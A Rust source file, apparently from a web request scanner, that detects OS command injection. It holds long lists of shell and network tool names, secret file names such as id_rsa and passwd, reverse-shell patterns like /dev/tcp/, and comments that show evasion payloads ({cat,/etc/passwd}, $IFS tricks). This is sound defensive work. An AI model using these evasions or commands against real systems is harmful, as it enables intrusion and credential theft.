//! OS command injection: a shell command after a command separator (`;` `|` `&&` newline,
//! backticks, `$(...)`), a binary called by its path, reverse-shell devices, and the usual shell
//! evasions undone first: quotes inside words (`c'a't`), backslashes (`c\at`), `$IFS`, empty
//! expansions (`$@`), brace expansion (`{cat,/etc/passwd}`), globs (`/???/c?t`).

use super::decode::{contains_str, excerpt, find_str, lower_folded_cow, position_of, AnyOf, ByteSet};
use super::scan::{group, Needles, Scan};
use super::Hit;
use rustc_hash::FxHashSet;
use std::borrow::Cow;
use std::sync::LazyLock;

/// Commands that are not ordinary words: after a separator they are a command whatever follows.
const DISTINCT: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "systeminfo",
    "tasklist",
    "taskkill",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "telnet",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "powershell",
    "pwsh",
    "cmd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "gcc",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "useradd",
    "usermod",
    "userdel",
    "passwd",
    "sudo",
    "crontab",
    "nohup",
    "xterm",
    "mkfifo",
    "mknod",
    "socat",
    "openssl",
    "base64",
    "xxd",
    "hexdump",
    "certutil",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "mshta",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "nmap",
    "tftp",
    "scp",
    "sftp",
    "ssh",
    "rsync",
    "rcp",
    "rsh",
    "rlogin",
    "getent",
    "whois",
    "traceroute",
    "tracert",
    "tcpdump",
    "iptables",
    "lsof",
    "pkill",
    "killall",
    "pwd",
    "ls",
    "tac",
    "nl",
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "awk",
    "gawk",
    "nawk",
    "sed",
    "xargs",
    "printenv",
    "printf",
    "uptime",
    "hostname",
    "lsb_release",
    "dmesg",
    "umount",
    "rm",
    "rmdir",
    "mkdir",
    "cp",
    "mv",
    "tar",
    "gzip",
    "gunzip",
    "bzip2",
    "unzip",
    "7z",
    "dd",
    "shred",
    "reboot",
    "poweroff",
    "systemctl",
    "apt-get",
    "yum",
    "dnf",
    "apk",
    "readlink",
    "realpath",
    "whereis",
    "strace",
    "ltrace",
    "gdb",
    "vim",
    "nano",
    "sqlite3",
    "mysql",
    "psql",
    "mongo",
    "redis-cli",
    "kubectl",
    "docker",
    "nproc",
    "lscpu",
    "env",
    "cat",
    "id",
    "ps",
    "ping",
    "echo",
    "sleep",
    "expr",
    "eval",
    "exec",
    "del",
    "dir",
    "ver",
    "vol",
    "dig",
    "host",
    "net",
    "kill",
    "which",
    "touch",
    "chdir",
    "tee",
    "uniq",
    "wc",
    "od",
    "less",
    "more",
    "head",
    "tail",
    "sort",
    "find",
    "type",
    "set",
    "cut",
    "rev",
    "file",
    "stat",
    "time",
    "timeout",
    "source",
    "java",
    "node",
    "date",
    "mail",
    "ln",
    "df",
    "du",
    "who",
    "ftp",
    "at",
    "su",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    "net.exe",
    "certutil.exe",
    "wsl",
    "ruby",
    "irb",
    "jshell",
    "pip",
    "npm",
    "gem",
    "make",
    "cc",
    "tr",
    "jq",
    "mount",
    "service",
    "finger",
    "groups",
    "last",
    "arp",
    "route",
    "ip",
    "true",
    "false",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "zless",
    "invoke-webrequest",
    "iwr",
    "invoke-expression",
    "iex",
    "invoke-restmethod",
    "irm",
    "start-process",
    "new-object",
    "invoke-command",
    "set-executionpolicy",
    // Binaries known for file reads and shell escapes (GTFOBins).
    "base32",
    "fold",
    "uconv",
    "lastlog",
    // FreeBSD's lastlog.
    "lastlogin",
    "visudo",
    "c89",
    "c99",
    "ssh-copy-id",
    "ssh-keygen",
    "systemd-run",
    "busctl",
    "ansible-playbook",
    "ansible-vault",
    "ansible-console",
    "chef-client",
    "chef-shell",
    "nohup",
    "nice",
    "flock",
    "cpulimit",
    "watch",
    "chroot",
    "command",
    "builtin",
    // Configuration management, package managers, editors and admin tools that run or read things.
    "ansible",
    "ansible-config",
    "ansible-galaxy",
    "ansible-doc",
    "ansible-inventory",
    "ansible-pull",
    "ansible-console",
    "chef",
    "chef-vault",
    "chef-run",
    "cscli",
    "unxz",
    "xz",
    "unlzma",
    "bsdtar",
    "perf",
    "aptitude",
    "pip3",
    "pipx",
    "htop",
    "top",
    "column",
    "comm",
    "bridge",
    "rmt",
    "rmt-tar",
    "rmt-dump",
    "vi",
    "ex",
    "nvim",
    "trap",
    "adduser",
    "deluser",
    "pkexec",
    "doas",
    "setsid",
    "nsenter",
    "unshare",
    "shutdown",
    "regedit",
    "reg",
    "bcdboot",
    "bcdedit",
    "vssadmin",
    "netsh",
    "icacls",
    "msiexec",
    "forfiles",
    "iwmi",
    "invoke-wmimethod",
    "gwmi",
    "get-wmiobject",
    "ll",
    // The sqlite3 shell's dot-commands that run programs.
    ".shell",
    ".system",
];

/// Commands that run the command after them (`time curl x`, `nohup sh -c`); `eval` and `trap`
/// run their argument (`trap 'rm -rf x' EXIT`), which normalising has unquoted.
const PREFIX: &[&str] = &[
    "time", "nohup", "nice", "timeout", "sudo", "env", "xargs", "flock", "cpulimit", "watch", "strace",
    "chroot", "exec", "command", "builtin", "eval", "trap",
];

/// Files whose name alone, as a command's argument after a separator, is an attack on the
/// system: the ones `pathTraversal` names by path, read from their own directory
/// (`cd /etc;column passwd`). None of them is an English word.
const SECRET_FILES: &[&str] = &[
    "passwd",
    "master.passwd",
    "gshadow",
    "sudoers",
    ".htpasswd",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "authorized_keys",
    ".bash_history",
];

/// Short tool names that are not words: after `&`, or right before a separator, they are commands.
const TECH: &[&str] = &[
    "id", "ls", "ps", "pwd", "env", "df", "du", "ln", "od", "nl", "wc", "tr", "cp", "mv", "rm", "dd", "sh",
    "nc", "ip", "arp", "irb", "awk", "sed", "grep", "ssh", "tar", "bash", "curl", "wget", "telnet", "whois",
    "printf", "passwd", "hostname", "cmd",
];

/// Commands whose name alone, as the whole value, is a probe (no one's name or search term).
const PROBES: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "nslookup",
    "getent",
    "lsb_release",
    "printenv",
];

/// Entries of [`DISTINCT`] that are also common words or answers ("cat", "id", "more", "find"):
/// these need a shell-like argument, a pipe or a stronger separator.
const WORDY: &[&str] = &[
    "cat", "id", "ps", "ping", "echo", "sleep", "expr", "eval", "exec", "del", "dir", "ver", "vol", "dig",
    "host", "net", "kill", "which", "touch", "tee", "uniq", "wc", "od", "less", "more", "head", "tail",
    "sort", "find", "type", "set", "cut", "rev", "file", "stat", "time", "timeout", "source", "java", "node",
    "date", "mail", "ln", "df", "du", "who", "ftp", "at", "su", "env", "pwd", "nc", "sh", "cc", "tr", "make",
    "mount", "service", "finger", "groups", "last", "route", "ip", "python", "perl", "ruby", "php", "lua",
    "cp", "mv", "rm", "ls", "dd", "gem", "pip", "npm", "ssh", "tar", "arp", "sed", "awk", "cmd", "bash",
    "nano", "vim", "irb", "apk", "grep", "curl", "wget", "whois", "mysql", "mongo", "docker", "telnet",
    "printf", "hostname", "passwd", "true", "false", "nice", "watch", "command", "builtin", "iex", "fold",
    "top", "column", "comm", "bridge", "ex", "trap", "perf", "chef", "shutdown", "reg", "xz", "vi", "ll",
];

fn is_wordy(word: &str) -> bool {
    WORDY.contains(&word)
}

/// Matches a glob (`?`, `*`) against a word.
fn glob(pattern: &[u8], word: &[u8]) -> bool {
    match (pattern.first(), word.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob(&pattern[1..], word) || (!word.is_empty() && glob(pattern, &word[1..])),
        (Some(b'?'), Some(_)) => glob(&pattern[1..], &word[1..]),
        (Some(b'['), Some(w)) => match pattern.iter().position(|&c| c == b']') {
            Some(end) if end > 1 => {
                let (negate, set) = match pattern[1] {
                    b'!' | b'^' => (true, &pattern[2..end]),
                    _ => (false, &pattern[1..end]),
                };
                let mut hit = false;
                let mut k = 0;
                while k < set.len() {
                    if k + 2 < set.len() && set[k + 1] == b'-' {
                        hit |= (set[k]..=set[k + 2]).contains(w);
                        k += 3;
                    } else {
                        hit |= set[k] == *w;
                        k += 1;
                    }
                }
                hit != negate && glob(&pattern[end + 1..], &word[1..])
            }
            _ => false,
        },
        (Some(p), Some(w)) if p == w => glob(&pattern[1..], &word[1..]),
        _ => false,
    }
}

/// [`DISTINCT`] as a set: most words looked up are not commands, and a scan of the list costs
/// hundreds of comparisons.
static DISTINCT_SET: LazyLock<FxHashSet<&'static str>> = LazyLock::new(|| DISTINCT.iter().copied().collect());

/// Where a word has its bit in [`COMMAND_SHAPES`]: a hash of its length and of the low five bits
/// of its first, second and last bytes (so the ASCII case of letters does not matter).
const fn command_shape(word: &[u8]) -> usize {
    let (first, last) = (word[0] as u32 & 31, word[word.len() - 1] as u32 & 31);
    let second = if word.len() > 1 { word[1] as u32 & 31 } else { 0 };
    let key = ((first << 5 | second) << 5 | last) << 6 | (word.len() as u32 & 63);
    (key.wrapping_mul(0x9e37_79b1) >> 18) as usize
}

/// One bit per [`command_shape`] of the entries of [`DISTINCT`], of 16,384: a few in a hundred are
/// set, and a word that is no command gets through as often.
const COMMAND_SHAPES: [u64; 256] = {
    let mut bits = [0u64; 256];
    let mut i = 0;
    while i < DISTINCT.len() {
        let shape = command_shape(DISTINCT[i].as_bytes());
        bits[shape >> 6] |= 1 << (shape & 63);
        i += 1;
    }
    bits
};

/// Whether [`command_of`] the word (lower-cased) may find a command: false only when it cannot.
/// The same in any ASCII case, and without reading the word but for a glob.
fn may_be_command(word: &[u8]) -> bool {
    if word.is_empty() || word.len() > 40 {
        return false;
    }
    if word.iter().any(|b| matches!(b, b'?' | b'*' | b'[')) {
        return true;
    }
    let shape = command_shape(word);
    COMMAND_SHAPES[shape >> 6] & (1 << (shape & 63)) != 0
}

/// The command a (possibly globbed) word stands for.
fn command_of(word: &str) -> Option<&'static str> {
    // Most words do not even have the first and last bytes and the length of a command.
    if !may_be_command(word.as_bytes()) {
        return None;
    }
    if let Some(c) = DISTINCT_SET.get(word) {
        return Some(c);
    }
    // Globs with more than a few `*` could make matching exponential; real ones have one or two.
    if word.bytes().any(|b| matches!(b, b'?' | b'*' | b'['))
        && word.bytes().any(|b| b.is_ascii_alphanumeric())
        && word.bytes().filter(|b| *b == b'*').count() <= 3
    {
        return DISTINCT
            .iter()
            .find(|c| glob(word.as_bytes(), c.as_bytes()))
            .copied();
    }
    None
}

/// Undoes shell quoting and expansion tricks (see the module documentation).
fn normalize(s: &str) -> String {
    // `+` is a space once a form decoder has run; `\n` typed as text is a newline to many sinks.
    let mut t = s
        .replace("\\n", "\n")
        .replace("\\r", "\n")
        .replace("\\t", " ")
        .replace('+', " ");
    // $IFS and ${IFS} (with any modifier) are whitespace; $@, $*, $0-$9 expand to nothing here.
    while let Some(p) = t.find("$ifs").or_else(|| t.find("${ifs")) {
        let end = if t[p..].starts_with("${") {
            t[p..].find('}').map_or(t.len(), |e| p + e + 1)
        } else {
            p + 4
        };
        t.replace_range(p..end, " ");
    }
    let b = t.as_bytes();
    let mut out = String::with_capacity(t.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\'' | b'"' => {}
            b'\\' => {
                // A backslash escapes the next character, which stays.
                if let Some(n) = t.get(i + 1..i + 2) {
                    if n != "\\" {
                        out.push_str(n);
                        i += 2;
                        continue;
                    }
                }
            }
            b'$' if matches!(
                b.get(i + 1),
                Some(b'@' | b'*' | b'0'..=b'9' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
            ) =>
            {
                i += 2;
                continue;
            }
            b'`' if b.get(i + 1) == Some(&b'`') => {
                i += 2;
                continue;
            }
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => {
                i += 3;
                continue;
            }
            b'$' => {
                let glued = out.as_bytes().last().is_some_and(u8::is_ascii_alphanumeric);
                match expansion_at(&t, i, glued) {
                    Some((end, text)) => {
                        out.push_str(text);
                        i = end;
                    }
                    None => {
                        out.push('$');
                        i += 1;
                    }
                }
                continue;
            }
            _ => {
                let len = match c {
                    0xc0..=0xdf => 2,
                    0xe0..=0xef => 3,
                    0xf0..=0xf7 => 4,
                    _ => 1,
                };
                out.push_str(t.get(i..i + len).unwrap_or(" "));
                i += len;
                continue;
            }
        }
        i += 1;
    }
    // {cat,/etc/passwd} is `cat /etc/passwd`.
    let mut result = String::with_capacity(out.len());
    let mut rest = out.as_str();
    while let Some(open) = rest.find('{') {
        let close = rest[open..].find('}').map(|c| open + c);
        match close {
            Some(close) if rest[open..close].contains(',') && !rest[open..close].contains(' ') => {
                result.push_str(&rest[..open]);
                result.push(' ');
                result.push_str(&rest[open + 1..close].replace(',', " "));
                result.push(' ');
                rest = &rest[close + 1..];
            }
            _ => {
                result.push_str(&rest[..=open]);
                rest = &rest[open + 1..];
            }
        }
    }
    result.push_str(rest);
    result
}

/// The end of a shell variable's name starting at `k` (`[a-z_][a-z0-9_]*`, lower case), or
/// `k` when there is none.
fn name_end(b: &[u8], k: usize) -> usize {
    if !b.get(k).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
        return k;
    }
    let mut e = k + 1;
    while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_') {
        e += 1;
    }
    e
}

/// What Bash makes of the expansion at `t[i]` (a `$`) when it is one [`normalize`] undoes: its
/// end and the text it stands for. `glued`: a letter or digit comes right before the `$`.
///
/// * `$((7))`, `$[7]`: arithmetic on a number is the number (`$((7))z` is `7z`).
/// * `cat$u`, `/etc$u/`, `cat${u}`, `${u}cat`: a variable inside a word. Only an unset one
///   splits a word in an attack, and it expands to nothing; a set one (`$HOME`) could not be
///   known anyway, and dropping it only shortens the word.
///
/// A variable that is a word of its own stays: `cat $HOME/x` is a shell-shaped argument.
fn expansion_at(t: &str, i: usize, glued: bool) -> Option<(usize, &str)> {
    let b = t.as_bytes();
    // At most 12 digits, and no more are read.
    let digits_from = |k: usize| {
        let limit = b.len().min(k + 13);
        let e = (k..limit).find(|&e| !b[e].is_ascii_digit()).unwrap_or(limit);
        (e > k && e - k <= 12).then_some(e)
    };
    match b.get(i + 1) {
        Some(b'(') if b.get(i + 2) == Some(&b'(') => {
            let e = digits_from(i + 3)?;
            (t.get(e..e + 2) == Some("))")).then(|| (e + 2, &t[i + 3..e]))
        }
        Some(b'[') => {
            let e = digits_from(i + 2)?;
            (b.get(e) == Some(&b']')).then(|| (e + 1, &t[i + 2..e]))
        }
        Some(b'{') => {
            let e = name_end(b, i + 2);
            if e == i + 2 || b.get(e) != Some(&b'}') {
                return None;
            }
            let right_glued = b.get(e + 1).is_some_and(u8::is_ascii_alphanumeric);
            (glued || right_glued).then_some((e + 1, ""))
        }
        _ => {
            let e = name_end(b, i + 1);
            (glued && e > i + 1).then_some((e, ""))
        }
    }
}

/// `$SHELL`, `${BASH}` as the command word at `i` (after blanks, `(`, `{`): set in every login
/// shell, to the shell. Its span and the shell.
fn login_shell_at(b: &[u8], i: usize) -> Option<(usize, usize, &'static str)> {
    let start = (i..b.len()).find(|&k| !matches!(b[k], b' ' | b'\t' | b'(' | b'{'))?;
    let braced = b.get(start + 1) == Some(&b'{');
    let name = start + 1 + usize::from(braced);
    if b.get(start) != Some(&b'$') {
        return None;
    }
    let e = name_end(b, name);
    let end = if braced {
        (b.get(e) == Some(&b'}')).then_some(e + 1)?
    } else {
        e
    };
    let shell = match &b[name..e] {
        b"shell" => "sh",
        b"bash" => "bash",
        _ => return None,
    };
    Some((start, end, shell))
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    /// `;` `|` newline `&&` `||`
    Strong,
    /// A lone `&` (also "Tom & Jerry").
    Amp,
    /// Backtick or `$(`.
    Subst,
}

fn word_byte(b: u8) -> bool {
    WORD_BYTES[usize::from(b)]
}

/// [`word_byte`] as a table: asked of every byte of the first word of most values.
const WORD_BYTES: [bool; 256] = super::decode::word_byte_table(b"_./?*-~+[]", false);

/// Where the word at `i` is (after blanks, `(`, `{`, and an unset variable: `;$u cat x`). The
/// same in any ASCII case.
fn word_span(b: &[u8], i: usize) -> (usize, usize) {
    let mut j = i;
    while j < b.len() && (b[j] == b' ' || b[j] == b'\t' || b[j] == b'(' || b[j] == b'{') {
        j += 1;
    }
    // `;$u cat x`, `;${u} cat x`: an unset variable expands to nothing.
    if b.get(j) == Some(&b'$') {
        let braced = b.get(j + 1) == Some(&b'{');
        let name = j + 1 + usize::from(braced);
        let mut k = name;
        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
            k += 1;
        }
        if braced && k > name && b.get(k) == Some(&b'}') {
            k += 1;
        }
        if k > name && (!braced || b[k - 1] == b'}') && b.get(k) == Some(&b' ') {
            j = k + 1;
        }
    }
    let start = j;
    while j < b.len() && word_byte(b[j]) {
        j += 1;
    }
    (start, j)
}

/// A (lower-case) word's directory part and its base name without `.exe` (in any ASCII case);
/// none when empty.
fn split_word(word: &str) -> Option<(&str, &str)> {
    let end = word
        .bytes()
        .rposition(|b| !matches!(b, b'.' | b'-'))
        .map_or(0, |p| p + 1);
    // Up to an ASCII byte: a character boundary.
    let word = word.get(..end)?;
    if word.is_empty() {
        return None;
    }
    let (dir, base) = match word.bytes().rposition(|b| b == b'/') {
        Some(p) => (&word[..p + 1], &word[p + 1..]),
        None => ("", word),
    };
    let exe = base
        .len()
        .checked_sub(4)
        .filter(|&k| base.as_bytes()[k..].eq_ignore_ascii_case(b".exe"));
    // Before four ASCII bytes: a character boundary.
    Some((dir, exe.map_or(base, |k| &base[..k])))
}

/// Whether the first word of a value, lower-cased, is a command (the first thing
/// [`command_at`] checks), without lower-casing the whole value.
fn starts_with_command(value: &str) -> bool {
    let (start, end) = word_span(value.as_bytes(), 0);
    let mut buf = [0u8; 64];
    let Some(word) = value.get(start..end).filter(|w| w.len() <= buf.len()) else {
        return true; // Long: let the full analysis decide.
    };
    // What the filter says of the base name does not depend on its case: most words stop here,
    // without a lower-cased copy.
    if !split_word(word).is_some_and(|(_, base)| may_be_command(base.as_bytes())) {
        return false;
    }
    let lower = &mut buf[..word.len()];
    lower.copy_from_slice(word.as_bytes());
    lower.make_ascii_lowercase();
    std::str::from_utf8(lower)
        .ok()
        .and_then(split_word)
        .is_some_and(|(_, base)| command_of(base).is_some())
}

/// Whether the first word of a value is one of [`PREFIX`] (any ASCII case).
fn starts_with_prefix(value: &str) -> bool {
    let (start, end) = word_span(value.as_bytes(), 0);
    value
        .get(start..end)
        .is_some_and(|w| PREFIX.iter().any(|p| p.eq_ignore_ascii_case(w)))
}

/// Looks at the word at `i` (after a separator of kind `sep`).
fn command_at(s: &str, i: usize, sep: Sep, paranoia: u8) -> Option<&'static str> {
    command_at_depth(s, i, sep, paranoia, 0)
}

/// `depth`: how many prefix commands (`time nohup ...`) led here; bounded so that a value made of
/// prefixes cannot recurse deeply.
fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Option<&'static str> {
    let b = s.as_bytes();
    // `$SHELL -c x`: the variable that names the shell, as the command.
    let (start, j, dir, cmd, switch) = if let Some((start, j, shell)) = login_shell_at(b, i) {
        (start, j, "", shell, false)
    } else {
        let (start, j) = word_span(b, i);
        if sep == Sep::Strong {
            if let Some(r) = sqlite_dot_command(s, start) {
                return Some(r);
            }
        }
        let (dir, base) = split_word(s.get(start..j)?)?;
        // `&bcdboot/r x`: cmd.exe ends a program's name where a switch starts.
        match command_of(base).or_else(|| command_of(strip_version(base))) {
            Some(cmd) => (start, j, dir, cmd, false),
            None if sep != Sep::Start => (start, j, dir, windows_switch(dir, base)?, true),
            None => return None,
        }
    };
    // `;$u cat x`: an unset variable put before the command to break up the pattern.
    if sep != Sep::Start && b[i.min(start)..start].contains(&b'$') && !s[j..].starts_with(['=', ':', ',']) {
        return Some("command after separator");
    }
    // /bin/x, /usr/bin/x and their globbed forms (/???/?at).
    let bin_dir = !dir.is_empty()
        && dir.starts_with('/')
        && (dir.contains("bin/") || (dir.contains(['?', '*', '[']) && dir.len() <= 12));
    if bin_dir && (sep != Sep::Amp || paranoia >= 2) {
        return Some("command by path");
    }
    // What follows the command.
    let mut k = j;
    while k < b.len() && (b[k] == b' ' || b[k] == b'\t') {
        k += 1;
    }
    let had_space = k > j;
    let next = b.get(k).copied();
    let end_or_sep =
        next.is_none_or(|n| matches!(n, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'#'));
    // An option, a path, a redirection or a URL: how commands are written, not prose.
    let arg: &str = {
        let rest = &s[k..];
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`'))
            .unwrap_or(rest.len());
        &rest[..end]
    };
    let shell_arg = (had_space
        && (next.is_some_and(|n| matches!(n, b'-' | b'/' | b'~' | b'$' | b'.' | b'\\' | b'%'))
            || arg.contains("://")
            || arg.starts_with("c:")))
        || next.is_some_and(|n| n == b'>' || n == b'<')
        || switch;
    // `;column passwd`: a system file read from its own directory.
    let secret_file = had_space && arg.rsplit('/').next().is_some_and(|f| SECRET_FILES.contains(&f));
    // A host or address argument: `ping 10.0.0.1`, `nslookup x.example.com`.
    let host_arg = (had_space && arg.split('.').count() >= 3 && arg.len() > 4)
        || (cmd == "net"
            && matches!(
                arg,
                "user" | "localgroup" | "view" | "share" | "use" | "group" | "accounts"
            ));
    // `sleep 5`: a time-based probe, only after a separator.
    let delay_arg =
        matches!(cmd, "sleep" | "timeout") && !arg.is_empty() && arg.bytes().all(|b| b.is_ascii_digit());
    let network = matches!(
        cmd,
        "net"
            | "ping"
            | "nslookup"
            | "dig"
            | "host"
            | "curl"
            | "wget"
            | "nc"
            | "ncat"
            | "telnet"
            | "ssh"
            | "ftp"
            | "tftp"
            | "whois"
            | "traceroute"
            | "tracert"
    );
    // `base64,` `sh=` `id:`: a word in data, not a command.
    if b.get(j)
        .is_some_and(|c| matches!(c, b',' | b'=' | b':' | b'"' | b'@'))
    {
        return None;
    }
    let wordy = is_wordy(cmd);
    let tech = TECH.contains(&cmd);
    // A separator right after the word: `id;`, `ls|`.
    let sep_next = !had_space && next.is_some_and(|n| matches!(n, b';' | b'|' | b'&' | b'`' | b'\n'));
    // `time curl x`, `nohup sh -c ...`: look at the command being run.
    if PREFIX.contains(&cmd) && had_space && depth < 3 {
        let mut k = j;
        // Skip options and their values.
        for _ in 0..4 {
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            if b.get(k)
                .is_some_and(|c| *c == b'-' || c.is_ascii_digit() || *c == b'/')
            {
                while k < b.len() && b[k] != b' ' {
                    k += 1;
                }
            } else {
                break;
            }
        }
        if k > j {
            // After a wordy prefix at the start (`nice cat`), only a command-shaped remainder counts.
            // `nohup who`, `strace id`: prefixes that are no words run whatever follows them.
            let inner = match sep {
                Sep::Start if is_wordy(cmd) => Sep::Amp,
                Sep::Start => Sep::Strong,
                other => other,
            };
            if let Some(r) = command_at_depth(s, k, inner, paranoia, depth + 1) {
                return Some(r);
            }
        }
    }
    match sep {
        Sep::Subst => Some("command substitution"),
        Sep::Start => {
            // `ansible all -m ping`: a command that is no word, with an option among its first arguments.
            let option_soon = had_space
                && s[k..].split_whitespace().take(3).any(|w| {
                    w.len() >= 2
                        && w.starts_with('-')
                        && w.as_bytes()[1].is_ascii_alphabetic() | (w.as_bytes()[1] == b'-')
                });
            if shell_arg
                || (!wordy && option_soon)
                || (paranoia >= 2 && host_arg)
                || ((tech || !wordy) && sep_next)
                || (PROBES.contains(&cmd) && end_or_sep)
            {
                Some("shell command")
            } else {
                None
            }
        }
        Sep::Strong => {
            // `iex (iwr http://…)`: PowerShell running what a subexpression fetched.
            let subexpression = matches!(cmd, "iex" | "invoke-expression") && next == Some(b'(');
            // `vim x +silent\ \!whoami`, `ex -c:!pwd`: an editor told to run a shell command.
            let line = s[k..].split('\n').next().unwrap_or("");
            let editor_escape = matches!(cmd, "vi" | "vim" | "ex" | "nvim" | "view")
                && line
                    .split_whitespace()
                    .any(|w| w.starts_with('!') || w.contains(":!"));
            if shell_arg
                || host_arg
                || delay_arg
                || end_or_sep
                || !wordy
                || subexpression
                || editor_escape
                || secret_file
            {
                Some("command after separator")
            } else {
                None
            }
        }
        Sep::Amp => {
            if shell_arg
                || delay_arg
                || (host_arg && network)
                || (!wordy && (end_or_sep || had_space))
                || (tech && end_or_sep)
            {
                Some("command after separator")
            } else {
                None
            }
        }
    }
}

/// sqlite3's `.shell` and `.system`, which its shell also takes with blanks after the dot
/// (`. shell id`) and abbreviated (`.sh id`, `.sys id`), followed by a command.
fn sqlite_dot_command(s: &str, start: usize) -> Option<&'static str> {
    let rest = s.get(start..)?.strip_prefix('.')?;
    let after = rest.trim_start_matches([' ', '\t']);
    let name_len = after.bytes().take(7).take_while(u8::is_ascii_alphabetic).count();
    let name = &after[..name_len];
    if name_len < 2 || !("shell".starts_with(name) || "system".starts_with(name)) {
        return None;
    }
    if !after[name_len..].starts_with([' ', '\t']) {
        return None;
    }
    let (ws, we) = word_span(s.as_bytes(), s.len() - after.len() + name_len);
    let (_, base) = split_word(s.get(ws..we)?)?;
    command_of(base).map(|_| "sqlite3 shell command")
}

/// Windows programs that take `/x` switches, which cmd.exe also reads glued to the name.
const WINDOWS_SWITCHED: &[&str] = &[
    "cmd",
    "whoami",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "netstat",
    "nslookup",
    "tracert",
    "certutil",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "bcdboot",
    "bcdedit",
    "vssadmin",
    "icacls",
    "msiexec",
    "forfiles",
    "regedit",
];

/// `bcdboot/r`, `cmd/c`: cmd.exe ends a program's name where a switch starts. Only Windows
/// programs, and switches of one or two letters or `?` (`openssl/3` is a product version,
/// `base64/x` and `kubectl/apply` are paths).
fn windows_switch(dir: &str, base: &str) -> Option<&'static str> {
    let name = dir.strip_suffix('/')?;
    let switch =
        base == "?" || (matches!(base.len(), 1 | 2) && base.bytes().all(|c| c.is_ascii_alphabetic()));
    if !switch {
        return None;
    }
    let name = name.strip_suffix(".exe").unwrap_or(name);
    WINDOWS_SWITCHED.iter().find(|c| **c == name).copied()
}

/// Looks for an OS command in one decoded value. `header` holds values written by clients (User-Agent
/// and the like), where a command at the very start is not evidence.
#[cfg(test)]
pub fn detect(value: &str, paranoia: u8, header: bool) -> Option<Hit> {
    detect_in(value, Scan::of(value), paranoia, header)
}

/// [`detect`] of a value whose scan is `scan` ([`Scan::of`] the value).
pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8, header: bool) -> Option<Hit> {
    detect_depth(value, scan, paranoia, header, 0)
}

/// `depth`: 1 when `value` is a value with its shell variables put in ([`substitute_variables`]).
fn detect_depth(value: &str, scan: Scan, paranoia: u8, header: bool, depth: u8) -> Option<Hit> {
    let (bytes, needles) = (scan.bytes, scan.needles);
    if value.len() < 2 {
        return None;
    }
    // Most values have no separator, no shell syntax and none of the substrings below: then only
    // a command as their first word could be found, and that is checked without a lower-cased copy.
    const QUIET: ByteSet = ByteSet::of_bytes(b";\n\r|&`$<>\\+'\"{[");
    const LOUD_GROUPS: u32 = group::DEV
        | group::IFS
        | group::COMSPEC
        | group::RUNNER
        | group::FOR
        | group::IF
        | group::DOLLAR_BRACE
        | group::DOLLAR_BRACKET
        | group::BIN
        | group::ARITHMETIC;
    let alias = || {
        value.get(..6).is_some_and(|p| p.eq_ignore_ascii_case("alias "))
            || value.get(..3).is_some_and(|p| p.eq_ignore_ascii_case("if/"))
    };
    // A header is read further only for a command line as its whole value ([`header_command_line`]),
    // which needs a shell-shaped argument or a prefix command (`time x`): `Kubectl-Command:
    // kubectl get`, sent with every kubectl request, stops here.
    let may_start_with_command = || {
        if header {
            (bytes.any(ByteSet::of_bytes(b"-/~.%<>")) || starts_with_prefix(value))
                && starts_with_command(value)
        } else {
            starts_with_command(value) || alias()
        }
    };
    if !(needles.may(LOUD_GROUPS) || bytes.any(QUIET) || may_start_with_command()) {
        return None;
    }
    let lower = lower_folded_cow(value, bytes);
    let raw: &str = &lower;
    // What `raw` may contain: each step below is skipped when a character or a substring it
    // needs is absent (`needles` describes `raw`, the value's lower-cased form).
    let set = bytes.lower_folded();
    if set.any(ByteSet::of_bytes(b"/$%")) {
        let dev = needles.may(group::DEV) && set.may_contain("/dev/") && contains_str(raw, "/dev/");
        let ifs = needles.may(group::IFS) && set.has(b'$');
        for (needle, reason, may) in [
            ("/dev/tcp/", "reverse shell", dev),
            ("/dev/udp/", "reverse shell", dev),
            ("${ifs", "shell IFS evasion", ifs),
            ("$ifs$", "shell IFS evasion", ifs),
            (
                "%comspec%",
                "Windows shell variable",
                needles.may(group::COMSPEC) && set.has(b'%'),
            ),
        ] {
            if let Some(p) = may.then(|| find_str(raw, needle)).flatten() {
                return Some(Hit {
                    reason,
                    excerpt: excerpt(raw, p, 96),
                });
            }
        }
    }
    if let Some((reason, p)) =
        code_and_batch(raw, set, needles, paranoia).or_else(|| shell_shapes(value, raw, set, header))
    {
        return Some(Hit {
            reason,
            excerpt: excerpt(raw, p, 96),
        });
    }
    // `a=/etc&&b=/passwd&&c=cat&&$c $a$b`: the command is assembled from variables.
    if depth == 0 && set.has(b'$') && set.has(b'=') {
        if let Some(with_values) = substitute_variables(raw) {
            if let Some(h) = detect_depth(&with_values, Scan::bytes_of(&with_values), paranoia, header, 1) {
